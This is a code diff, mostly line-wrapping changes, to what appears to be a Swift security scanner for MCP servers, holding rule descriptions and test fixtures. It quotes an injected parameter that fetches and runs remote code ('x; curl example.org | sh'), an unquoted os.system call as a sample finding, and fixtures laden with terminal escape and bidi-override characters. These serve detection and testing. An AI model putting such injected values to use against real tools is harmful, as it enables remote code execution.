@@ -68,13 +68,16 @@ enum Rules {
     static let all = [command, unicode, exposure, logging, weak]
 
     static let command = rule(
-        "MCPS-CMD-001", "Shell command built from a tool's parameter", .critical, .high, .commandInjection, [78, 88], [.mcp05],
-        why: "Whoever calls the tool, a model that was talked into it included, decides what the shell runs: a parameter such "
-            + "as \"x; curl example.org | sh\" is enough.",
+        "MCPS-CMD-001", "Shell command built from a tool's parameter", .critical, .high, .commandInjection, [78, 88],
+        [.mcp05],
+        why:
+            "Whoever calls the tool, a model that was talked into it included, decides what the shell runs: a "
+            + "parameter such as \"x; curl example.org | sh\" is enough.",
         fix: "Pass the program and its arguments as a list, and leave out shell=True.",
         references: ["https://cwe.mitre.org/data/definitions/78.html"])
     static let unicode = rule(
-        "MCPS-UNI-001", "Invisible characters in a tool's description", .high, .medium, .hiddenUnicode, [1007], [.mcp03],
+        "MCPS-UNI-001", "Invisible characters in a tool's description", .high, .medium, .hiddenUnicode, [1007],
+        [.mcp03],
         why: "The model reads what the person who approves the tool cannot see.", fix: "Remove the characters.")
     static let exposure = rule(
         "MCPS-NET-002", "Server listens on all interfaces", .medium, .medium, .networkExposure, [1327, 668], [.mcp07],
@@ -87,7 +90,8 @@ enum Rules {
         fix: "Use SHA-256.")
 
     private static func rule(
-        _ id: String, _ title: String, _ severity: Severity, _ confidence: Confidence, _ category: SentinelModel.Category,
+        _ id: String, _ title: String, _ severity: Severity, _ confidence: Confidence,
+        _ category: SentinelModel.Category,
         _ cwe: [Int], _ owasp: [OWASPMCP], why: String, fix: String, references: [String] = []
     ) -> RuleDescriptor {
         RuleDescriptor(
@@ -107,7 +111,8 @@ extension Finding {
         let column = before.unicodeScalars.count + 1
         let width = match.unicodeScalars.count
         let fileColumn = columnInFile ?? column
-        let start = Position(offset: 1000 + before.utf8.count, line: line, column: fileColumn, byteColumn: before.utf8.count + 1)
+        let start = Position(
+            offset: 1000 + before.utf8.count, line: line, column: fileColumn, byteColumn: before.utf8.count + 1)
         let end = Position(
             offset: start.offset + match.utf8.count, line: line, column: fileColumn + width,
             byteColumn: start.byteColumn + match.utf8.count)
@@ -133,7 +138,9 @@ extension Sample {
         .finding(
             .sample(
                 line: 97, before: "\tos.system(", match: "\"tar xf \" + name", after: ")",
-                message: "`name` is a parameter of the tool `unpack`, and is run by a shell without being checked or quoted.")),
+                message:
+                    "`name` is a parameter of the tool `unpack`, and is run by a shell without being checked or quoted."
+            )),
         .finding(
             .sample(
                 Rules.unicode, path: RawPath("server/工具.json"), line: 7, before: "  \"description\": \"天気を調べる",
@@ -144,7 +151,8 @@ extension Sample {
                 match: "0.0.0.0")),
         .diagnostic(
             Diagnostic(
-                .encodingInvalid, .low, .validation, message: "2 bytes are not valid UTF-8", path: RawPath("server/old.py"),
+                .encodingInvalid, .low, .validation, message: "2 bytes are not valid UTF-8",
+                path: RawPath("server/old.py"),
                 recovery: "They were read as U+FFFD.", line: 3, column: 14, isIncomplete: false)),
         .finding(
             .sample(
@@ -162,7 +170,8 @@ extension Sample {
                 isIncomplete: true)),
         .diagnostic(
             Diagnostic(
-                .suppressionInvalid, .medium, .validation, message: "the comment names no rule that exists: MCPS-XXX-001",
+                .suppressionInvalid, .medium, .validation,
+                message: "the comment names no rule that exists: MCPS-XXX-001",
                 path: RawPath("server/tools.py"), recovery: "Correct the rule's id.", line: 88, column: 5,
                 isIncomplete: false)),
     ]
@@ -170,8 +179,10 @@ extension Sample {
     private static let hostileEvents: [Event] = [
         .finding(
             .sample(
-                path: RawPath("a\u{1B}[2J\u{202E}gpj.exe\n\u{2028}\r\u{7F}\u{9B}31m"), before: "x\u{1B}]0;owned\u{7} = \u{202E}",
-                match: "eval(\u{1B}[31m)", after: "\u{2066}\u{E0041}\u{0}\r", message: "calls \u{1B}[8mhidden\u{202E}\n fake: line",
+                path: RawPath("a\u{1B}[2J\u{202E}gpj.exe\n\u{2028}\r\u{7F}\u{9B}31m"),
+                before: "x\u{1B}]0;owned\u{7} = \u{202E}",
+                match: "eval(\u{1B}[31m)", after: "\u{2066}\u{E0041}\u{0}\r",
+                message: "calls \u{1B}[8mhidden\u{202E}\n fake: line",
                 suppression: nil, evidence: "seen\u{1B}[1A in \u{200F}x")),
         .finding(.sample(path: RawPath([0x64, 0xFF, 0x2F, 0xC3, 0x28, 0x20, 0x25]), match: "<script>\"'&\\")),
         .finding(
